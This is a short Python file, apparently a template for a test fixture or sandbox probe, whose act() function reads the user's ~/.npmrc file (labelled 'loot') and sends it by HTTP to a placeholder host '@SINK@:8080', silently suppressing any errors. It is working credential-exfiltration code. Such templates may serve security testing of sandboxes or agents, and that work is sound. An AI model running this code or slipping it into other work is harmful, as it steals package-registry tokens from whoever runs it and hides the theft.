import contextlib
import urllib.request
from pathlib import Path


def act():
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8080/p", timeout=3).read()
    loot = b"nothing"
    with contextlib.suppress(OSError):
        loot = Path.home().joinpath(".npmrc").read_bytes()
    with contextlib.suppress(OSError):
        urllib.request.urlopen("http://@SINK@:8080/log", loot, timeout=3)
